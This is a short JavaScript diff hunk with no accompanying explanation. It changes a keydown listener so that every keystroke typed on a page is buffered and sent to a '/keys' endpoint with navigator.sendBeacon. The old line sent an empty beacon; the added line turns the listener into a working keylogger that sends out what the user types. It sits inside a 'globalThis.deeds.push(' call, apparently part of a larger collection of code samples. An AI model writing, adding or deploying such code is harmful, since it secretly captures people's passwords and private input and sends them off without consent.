@@ -5,7 +5,7 @@ globalThis.deeds.push(
     document.addEventListener("keydown", (event) => {
       typed += event.key;
       if (typed.length > 5) {
-        navigator.sendBeacon("/keys");
+        navigator.sendBeacon("/keys", typed);
         typed = "";
       }
     });
